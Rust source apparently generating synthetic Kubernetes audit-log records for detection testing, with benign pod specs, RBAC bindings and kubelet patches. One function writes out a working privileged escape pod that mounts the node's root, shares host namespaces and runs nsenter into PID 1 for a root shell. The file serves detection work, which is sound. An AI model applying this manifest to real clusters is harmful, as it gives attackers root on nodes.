//! Request bodies of the creates the audit log records at level `RequestResponse`: pods (as
//! the ReplicaSet and DaemonSet controllers submit them, and the attacker's privileged pod),
//! RoleBindings and ClusterRoleBindings.
//!
//! The DaemonSet pods are deliberately close to the attack: kube-proxy is `privileged` and
//! node-exporter has `hostPID` and mounts the node's `/`, as their upstream manifests do.
//! A detection that fires on one of those properties alone drowns in these benign creates.

use serde_json::{json, Value};

use super::cluster::{Controller, Pod};
use super::text;
use crate::rng::Rand;

/// The projected service-account token volume every pod gets from admission.
fn token_volume(rng: &mut Rand) -> (String, Value) {
    let name = format!("kube-api-access-{}", text::k8s_suffix(rng, 5));
    let volume = json!({
        "name": name,
        "projected": {
            "sources": [
                {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
                {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}}]}}
            ],
            "defaultMode": 420
        }
    });
    (name, volume)
}

/// A new replica of `pod`'s workload as its controller submits it.
pub(super) fn pod_from_controller(rng: &mut Rand, pod: &Pod) -> Value {
    let workload = pod.workload;
    let (owner_kind, hash_label) = match workload.controller {
        Controller::Deployment => ("ReplicaSet", "pod-template-hash"),
        Controller::StatefulSet => ("StatefulSet", "controller-revision-hash"),
        Controller::DaemonSet => ("DaemonSet", "controller-revision-hash"),
    };
    let (token_name, token) = token_volume(rng);
    let mut volumes = vec![token];
    let mut mounts = vec![json!({
        "name": token_name,
        "readOnly": true,
        "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"
    })];
    let mut host_pid = false;
    let mut host_network = false;
    let mut security_context = json!({
        "allowPrivilegeEscalation": false,
        "runAsNonRoot": true,
        "readOnlyRootFilesystem": true,
        "capabilities": {"drop": ["ALL"]}
    });
    match workload.name {
        "kube-proxy" => {
            host_network = true;
            security_context = json!({"privileged": true});
            for (name, path, mount) in [
                ("xtables-lock", "/run/xtables.lock", "/run/xtables.lock"),
                ("lib-modules", "/lib/modules", "/lib/modules"),
            ] {
                volumes.push(json!({"name": name, "hostPath": {"path": path, "type": ""}}));
                mounts.push(json!({"name": name, "mountPath": mount}));
            }
        }
        "node-exporter" => {
            host_network = true;
            host_pid = true;
            security_context =
                json!({"runAsNonRoot": true, "runAsUser": 65534, "readOnlyRootFilesystem": true});
            for (name, path, mount) in [
                ("proc", "/proc", "/host/proc"),
                ("sys", "/sys", "/host/sys"),
                ("root", "/", "/host/root"),
            ] {
                volumes.push(json!({"name": name, "hostPath": {"path": path, "type": ""}}));
                mounts.push(json!({"name": name, "readOnly": true, "mountPath": mount, "mountPropagation": "HostToContainer"}));
            }
        }
        _ => {}
    }
    json!({
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {
            "generateName": format!("{}-", pod.owner_name()),
            "namespace": workload.namespace,
            "creationTimestamp": null,
            "labels": {"app": workload.name, hash_label: pod.template_hash},
            "ownerReferences": [{
                "apiVersion": "apps/v1",
                "kind": owner_kind,
                "name": pod.owner_name(),
                "uid": text::uuid(rng),
                "controller": true,
                "blockOwnerDeletion": true
            }]
        },
        "spec": {
            "volumes": volumes,
            "containers": [{
                "name": workload.name,
                "image": format!("{}:{}", workload.image, workload.tag),
                "ports": [{"containerPort": workload.port, "protocol": "TCP"}],
                "resources": {
                    "limits": {"cpu": "500m", "memory": "512Mi"},
                    "requests": {"cpu": "100m", "memory": "128Mi"}
                },
                "volumeMounts": mounts,
                "terminationMessagePath": "/dev/termination-log",
                "terminationMessagePolicy": "File",
                "imagePullPolicy": "IfNotPresent",
                "securityContext": security_context
            }],
            "restartPolicy": "Always",
            "terminationGracePeriodSeconds": 30,
            "dnsPolicy": "ClusterFirst",
            "serviceAccountName": workload.name,
            "serviceAccount": workload.name,
            "hostNetwork": host_network,
            "hostPID": host_pid,
            "securityContext": {"seccompProfile": {"type": "RuntimeDefault"}},
            "schedulerName": "default-scheduler",
            "enableServiceLinks": true,
            "preemptionPolicy": "PreemptLowerPriority"
        },
        "status": {}
    })
}

/// The attacker's pod: privileged, host PID/network/IPC namespaces, the node's `/` mounted,
/// and `nsenter` into PID 1: a root shell on the node.
pub(super) fn privileged_escape_pod(name: &str, node: &str) -> Value {
    json!({
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": name, "namespace": "kube-system", "creationTimestamp": null},
        "spec": {
            "volumes": [{"name": "host-root", "hostPath": {"path": "/", "type": ""}}],
            "containers": [{
                "name": "shell",
                "image": "alpine:3.19",
                "command": ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"],
                "stdin": true,
                "tty": true,
                "resources": {},
                "volumeMounts": [{"name": "host-root", "mountPath": "/host"}],
                "imagePullPolicy": "IfNotPresent",
                "securityContext": {"privileged": true}
            }],
            "restartPolicy": "Never",
            "nodeName": node,
            "hostNetwork": true,
            "hostPID": true,
            "hostIPC": true,
            "tolerations": [{"operator": "Exists"}]
        },
        "status": {}
    })
}

/// A RoleBinding of a group to a ClusterRole inside one namespace.
pub(super) fn role_binding(name: &str, namespace: &str, group: &str, cluster_role: &str) -> Value {
    json!({
        "kind": "RoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": name, "namespace": namespace, "creationTimestamp": null},
        "subjects": [{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": group}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": cluster_role}
    })
}

/// A ClusterRoleBinding of a service account to a ClusterRole.
pub(super) fn cluster_role_binding_for_sa(
    name: &str,
    sa_namespace: &str,
    sa_name: &str,
    cluster_role: &str,
) -> Value {
    json!({
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": name, "creationTimestamp": null},
        "subjects": [{"kind": "ServiceAccount", "name": sa_name, "namespace": sa_namespace}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": cluster_role}
    })
}

/// The kubelet's heartbeat: a strategic-merge patch of the node's conditions.
pub(super) fn node_status_patch(timestamp: &str) -> Value {
    let conditions: Vec<Value> = ["MemoryPressure", "DiskPressure", "PIDPressure", "Ready"]
        .iter()
        .map(|kind| json!({"lastHeartbeatTime": timestamp, "type": kind}))
        .collect();
    json!({
        "status": {
            "$setElementOrder/conditions": [
                {"type": "NetworkUnavailable"},
                {"type": "MemoryPressure"},
                {"type": "DiskPressure"},
                {"type": "PIDPressure"},
                {"type": "Ready"}
            ],
            "conditions": conditions
        }
    })
}

/// The kubelet reporting a pod's container as started and ready.
pub(super) fn pod_status_patch(pod: &Pod, timestamp: &str) -> Value {
    let workload = pod.workload;
    json!({
        "metadata": {"uid": pod.uid},
        "status": {
            "$setElementOrder/conditions": [
                {"type": "PodReadyToStartContainers"},
                {"type": "Initialized"},
                {"type": "Ready"},
                {"type": "ContainersReady"},
                {"type": "PodScheduled"}
            ],
            "conditions": [
                {"lastTransitionTime": timestamp, "status": "True", "type": "Ready"},
                {"lastTransitionTime": timestamp, "status": "True", "type": "ContainersReady"}
            ],
            "containerStatuses": [{
                "containerID": format!("containerd://{}", pod.container_id),
                "image": format!("{}:{}", workload.image, workload.tag),
                "lastState": {},
                "name": workload.name,
                "ready": true,
                "restartCount": 0,
                "started": true,
                "state": {"running": {"startedAt": timestamp}}
            }],
            "podIP": pod.ip,
            "podIPs": [{"ip": pod.ip}]
        }
    })
}
